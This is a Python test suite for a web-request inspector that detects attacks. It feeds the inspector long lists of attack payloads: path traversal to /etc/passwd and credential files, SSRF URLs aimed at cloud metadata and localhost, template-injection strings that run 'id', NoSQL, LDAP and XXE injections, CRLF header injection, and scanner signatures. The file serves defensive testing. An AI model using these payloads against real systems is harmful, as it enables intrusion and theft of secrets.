"""Traversal, forgery, templates and the like are refused in every spelling."""

import pytest
from hypothesis import given, strategies as st

from groupz_shield.signatures.assembly import inspector_of
from groupz_shield.signatures.settings import Signatures
from groupz_shield.signatures.vocabulary import Family, Finding, Place, Value

INSPECTOR = inspector_of(Signatures())

TRAVERSAL = r"""
../
/..%0d/..%0d/secret
config.php.bak
docker-compose.yml
C:/Users/Administrator/a.dat
../../../secret
..\..\..\secret
%2e%2e%2f%2e%2e%2fsecret
%252e%252e%252f%252e%252e%252fsecret
..%5c..%5csecret
..%c0%af..%c0%afsecret
%c0%ae%c0%ae/%c0%ae%c0%ae/secret
..%u2215..%u2215secret
..%uff0f..%uff0fsecret
....//....//secret
..././..././secret
..;/..;/manager
..//..//secret
images/../../secret
/files/..\../secret
0x2e0x2e0x2f0x2e0x2e0x2fsecret
..0x2f..0x2fsecret
/.../.../.../secret
../.env
../config.php
/etc/passwd
/etc/passwd%00.png
//etc//shadow
/etc/./passwd
file:///etc/passwd
/etc/hosts
/etc/mysql/my.cnf
/etc/ssh/sshd_config
/proc/self/environ
/proc/1/cmdline
/var/log/nginx/access.log
/root/.bash_history
/home/deploy/.ssh/id_ed25519
C:\Windows\win.ini
c:/windows/system32/drivers/etc/hosts
C:\boot.ini
C:/inetpub/logs/x.log
%SYSTEMROOT%\win.ini
\\203.0.113.9\c$
WEB-INF/web.xml
.git/config
.svn/entries
.htaccess
.htpasswd
.env
.env.production
~/.aws/credentials
wp-config.php.bak
id_rsa
config/secrets.yml
application-prod.properties
/./././././././secret
"""
INCLUSION = r"""
http://evil.example\@bank.example
https:%0a//evil.example
view-source:file:///a
http://203.0.113.9/a.txt
https://203.0.113.9:8443/a
ftp://203.0.113.9/a
http://[2001:db8::1]/a
http://evil.example/a.txt?
https://evil.example/a.php??
http://evil.example/c99.txt
http://evil.example/wso.php
ftp://evil.example/a
smb://evil.example/share/a
expect://id
ssh2.exec://a:b@evil.example/id
zip://upload.jpg#a.php
https://bank.example@evil.example/
//bank.example@evil.example
///evil.example
////evil.example/a
/\evil.example
\/evil.example
https:evil.example
https:/evil.example
https:///evil.example
https:\\evil.example
//evil.example/%2e%2e
//www.evil.example/
"""
FORGERY = r"""
http://ip6-localhost/
https://loopback/
http://169.254.169.254/latest/meta-data/
http://metadata.google.internal/computeMetadata/v1/
http://100.100.100.200/latest/
http://[fd00:ec2::254]/
http://localhost/
http://localhost:8080/admin
http://LOCALHOST.localdomain/
http://127.0.0.1/
https://127.1/
http://127.0.1:22
http://0/
http://0.0.0.0:80
http://[::1]/
http://[::]:80/
http://[0:0:0:0:0:0:0:1]/
http://[::ffff:127.0.0.1]/
http://[::ffff:7f00:1]/
http://2130706433/
http://0x7f000001/
http://0x7f.0.0.1/
http://0x7f.1/
http://017700000001/
http://0177.0.0.1/
http://0251.0376.0251.0376/
http://①②⑦.⓪.⓪.①/
http://user:pass@127.0.0.1/
http://evil.example@localhost/
127.0.0.1:6379/a
localhost:22/a
gopher://127.0.0.1:6379/_FLUSHALL
gopher://evil.example:25/_HELO
dict://evil.example:11211/stat
ldap://evil.example/a
tftp://evil.example/a
netdoc:///etc/x
jar:http://evil.example/a.jar!/b
file:///c:/secrets
file://localhost/secrets/a
http://127.0.0.1.nip.io/
http://a.sslip.io/
http://abc123.oastify.com/
http://x.burpcollaborator.net
http://c2.oast.fun/
//localhost/a
http://host.docker.internal/
http://db.default.svc.cluster.local/
"""
TEMPLATES = r"""
{7*7}
%{7*7}
%{(#a='b')}
{{ settings.SECRET_KEY }}
<#7*7>
{{7*7}}
{{ 7 * '7' }}
${7*7}
#{7*7}
*{7*7}
@(7*7)
<%= 7*7 %>
{%if 1%}a{%endif%}
{{7-1}}
%7B%7B7*7%7D%7D
{{''.__class__.__mro__[1].__subclasses__()}}
{{ ''['__class__'] }}
{{config}}
{{ config.items() }}
{{self.__init__}}
{{request.application.__globals__}}
{{request['application']}}
{{cycler.__init__.__globals__.os.popen('id').read()}}
{{lipsum.__globals__}}
{{ x|attr('__class__') }}
{{url_for.__globals__}}
{% for c in [].__class__.__base__.__subclasses__() %}
{%set a=1%}
{{_self.env.registerUndefinedFilterCallback('exec')}}
{{['id']|filter('system')}}
{{app.request.server.all}}
<#assign ex="freemarker.template.utility.Execute"?new()>
${"freemarker.template.utility.Execute"?new()("id")}
#set($x='')$x.class.forName('java.lang.Runtime')
#set ($e="exp")
{php}echo 1;{/php}
{$smarty.version}
{system('id')}
{if system('id')}{/if}
{{#with "s" as |string|}}{{/with}}
{{constructor.constructor('return 1')()}}
{{this.constructor}}
${T(java.lang.Runtime).getRuntime().exec('id')}
__${new java.util.Scanner(T(java.lang.Runtime))}__::.x
*{T(java.lang.System).getenv()}
[[${7*7}]]
<%= File.open('/x').read %>
<%= system("id") %>
<% out.println(1) %>
#{session.getAttribute("a")}
${pageContext.request}
${''.getClass()}
${applicationScope}
@{[system 'id']}
${{7*7}}
{user.__class__.__init__.__globals__}
%s%s%s%s%s
"""
DOCUMENTS = r"""
b';return(!0);var c='
query Probe {__typename}
{x:__typename y:__typename}
}, { password : /.*/ }
' } ], $comment:'a'
{a(b: "{\"c\": 1}")}
{"$ne": null}
{"$gt":""}
{'$regex':'^a'}
{ $where: "sleep(1)" }
{"a":{"$in":[1]}}
user[$ne]
user[$regex]
filter[a][$gt]
'; return true; var a='
'; return this.password == 'x
a'; return 1==1; //
this.password.match(/^a/)
' || this.password.length > 3 //
' || 1==1//
' || '1'=='1
' && this.a.match(/b/)//
', $or: [ {}, { 'a':'a
true, $where: '1 == 1'
$where
db.users.drop()
db.getCollection('a').find()
1;db.users.insert({a:1})
function(){return true}
query{__schema{types{name}}}
{__type(name:"User"){fields{name}}}
fragment a on __Type {name}
"""
DIRECTORY = r"""
*)(uid=*
*)(uid=*))(|(uid=*
admin)(&)
admin)(|(password=*
*)(|(objectClass=*)
(&(objectClass=user)(uid=a))
(|(cn=a)(cn=b))
x)(cn=*
*)(&
*()|&'
*()|%26'
*))%00
admin*)((|userPassword=*)
*)(objectClass=*
)(!(uid=a)
"""
ENTITIES = r"""
<b>&xxe;</b>
document("file:///b")
//*
//*[contains(name(),'a')]
<esi:include src="http://evil.example/"/>
<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]>
<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">
<!ENTITY % b SYSTEM "http://evil.example/a.dtd">
<!ENTITY b "aaaa"><!ENTITY c "&b;&b;">
<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]>
<!doctype a[<!element a any>]>
<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///a"/></a>
<xsl:value-of select="system-property('xsl:vendor')"/>
<xsl:copy-of select="document('a')"/>
<?xml-stylesheet href="http://evil.example/a.xsl"?>
%3C!ENTITY%20b%20SYSTEM%20%22a%22%3E
&lt;!ENTITY b SYSTEM "a"&gt;
x' or count(/*)=1 or 'a'='b
'] | //user/*[contains(*,'
a' or name(/*)='b
' or string-length(name(/*[1]))=3 or '
x']/parent::node()/child::a
"""
HEADERS = (
    "a\\r\\nSet-Cookie: b=c",
    "a%E5%98%8A%E5%98%8DSet-Cookie:b=c",
    "a@b.example\nCc: c@d.example",
    "a\r\nSet-Cookie: b=c",
    "a\nSet-Cookie: b=c",
    "a%0d%0aSet-Cookie:b=c",
    "a%0aLocation:%20http://evil.example",
    "a%250d%250aSet-Cookie:%20b=c",
    "a\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    "a\r\nX-XSS-Protection: 0",
    "a\r\nContent-Type: text/html\r\n\r\n<html>",
    "a\r\n\r\n<html>b",
    "a\r\n\r\n<script>",
    "a\r\nGET /b HTTP/1.1",
    "0\r\n\r\nPOST /admin HTTP/1.1",
    "HTTP/1.1 200 OK",
    "a\r\nTransfer-Encoding: chunked",
    "a\r\nHost: evil.example",
    "a\r\nAccess-Control-Allow-Origin: *",
    "a@b.example\nBcc: c@d.example",
    "a@b.example%0ABcc:c@d.example",
    "a@b.example\r\nReply-To: c@d.example",
    "a\r\nRCPT TO:<c@d.example>",
)
SESSIONS = r"""
document.cookie='a=b'
<script>document . cookie = "a"</script>
x.cookie="PHPSESSID=1; expires=Mon"
x.cookie='a=b;domain=.evil.example'
<meta http-equiv="Set-Cookie" content="a=b">
"""
ATTACKS = [
    *((Family.PATH_TRAVERSAL, text) for text in TRAVERSAL.split("\n")[1:-1]),
    *((Family.REQUEST_FORGERY, text) for text in FORGERY.split("\n")[1:-1]),
    *((Family.REMOTE_FILE_INCLUSION, text) for text in INCLUSION.split("\n")[1:-1]),
    *((Family.TEMPLATE_INJECTION, text) for text in TEMPLATES.split("\n")[1:-1]),
    *((Family.NOSQL_INJECTION, text) for text in DOCUMENTS.split("\n")[1:-1]),
    *((Family.LDAP_INJECTION, text) for text in DIRECTORY.split("\n")[1:-1]),
    *((Family.XML_ENTITIES, text) for text in ENTITIES.split("\n")[1:-1]),
    *((Family.HEADER_INJECTION, text) for text in HEADERS),
    *((Family.SESSION_FIXATION, text) for text in SESSIONS.split("\n")[1:-1]),
]
PROBES = [
    "/.git/HEAD",
    "/.env",
    "/api/.env.bak",
    "/.aws/credentials",
    "/.vscode/sftp.json",
    "/wp-login.php",
    "/blog/wp-login.php",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/phpMyAdmin-5.1/",
    "/pma/",
    "/actuator/env",
    "/cgi-bin/a.sh",
    "/manager/html",
    "/server-status",
    "/phpinfo.php",
    "/_ignition/execute-solution",
    "/solr/admin/cores",
    "/index.php~",
    "/index.php.bak",
    "/backup.zip",
    "/db.sql.gz",
    "/web.config",
    "/settings.ini",
    "/a\x00.png",
    "/a\r\nSet-Cookie: b=c",
    "/%2e%2e/%2e%2e/etc",
    "/a;jsessionid=1A2B",
]
SCANNED = [
    (Place.PATH, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    (Place.PATH, "/uploads/c99.php"),
    (Place.PATH, "/wso.php"),
    (Place.PATH, "/boaform/admin/formLogin"),
    (Place.PATH, "/.env"),
    (Place.PATH, "/.git/config"),
    (Place.PATH, "/HNAP1"),
    (Place.PATH, "/cgi-bin/luci/;stok=/locale"),
    (Place.PATH, "/nmaplowercheck1700000000"),
    (Place.USER_AGENT, "sqlmap/1.8.2#stable (https://sqlmap.org)"),
    (Place.USER_AGENT, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:1)"),
    (Place.USER_AGENT, "Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
    (Place.USER_AGENT, "masscan/1.3"),
    (Place.USER_AGENT, "Mozilla/5.0 zgrab/0.x"),
    (Place.USER_AGENT, "gobuster/3.6"),
    (Place.USER_AGENT, "feroxbuster/2.10"),
    (Place.USER_AGENT, "WPScan v3.8 (https://wpscan.com)"),
    (Place.USER_AGENT, "Mozilla/4.0 (Hydra)"),
    (Place.USER_AGENT, "Nuclei - Open-source project (nuclei.example)"),
]


def found(place: Place, text: str, name: str = "field") -> list[Finding]:
    return INSPECTOR.inspect([Value(place, name, text)])


@pytest.mark.parametrize(("family", "text"), ATTACKS)
def test_an_attack_is_told_for_what_it_is(family: Family, text: str) -> None:
    assert family in {finding.family for finding in found(Place.QUERY, text)}


@pytest.mark.parametrize("place", [Place.FORM, Place.JSON, Place.COOKIE])
def test_an_attack_is_refused_in_other_places_too(place: Place) -> None:
    passed = {text for _, text in ATTACKS if not found(place, text)}

    assert all(text.startswith(("//", "ftp://evil")) for text in passed)


@pytest.mark.parametrize("path", PROBES)
def test_a_probe_is_refused(path: str) -> None:
    assert found(Place.PATH, path)


@pytest.mark.parametrize(("place", "text"), SCANNED)
def test_a_scanner_is_known(place: Place, text: str) -> None:
    assert Family.SCANNER in {finding.family for finding in found(place, text)}


@pytest.mark.parametrize(
    "name", ["$ne", "$where", "user[$ne]", "password__startswith", "PHPSESSID"]
)
def test_a_name_can_be_an_attack(name: str) -> None:
    assert found(Place.NAME, name, name)


@pytest.mark.parametrize(
    "name",
    ["a.php", "a.php.jpg", "a.phtml", "a.jsp;.png", ".htaccess", "a.php::$DATA"],
)
def test_a_script_is_no_upload(name: str) -> None:
    assert found(Place.FILE_NAME, name)


@given(st.text("./\\%{}$()[]*'\";:<>!=&|#@ \r\nabc019", max_size=200))
def test_whatever_is_sent_is_judged_and_always_alike(text: str) -> None:
    assert found(Place.QUERY, text) == found(Place.QUERY, text)


@pytest.mark.parametrize(
    "piece",
    ["../", "{{", "$(", "[[", "(a=", "\r\n", "\\\\", "<%", "http://", "/.", "%"],
)
def test_a_long_text_is_judged_too(piece: str) -> None:
    text = piece * 5_000
    assert found(Place.TEXT, text + "../../etc/passwd")
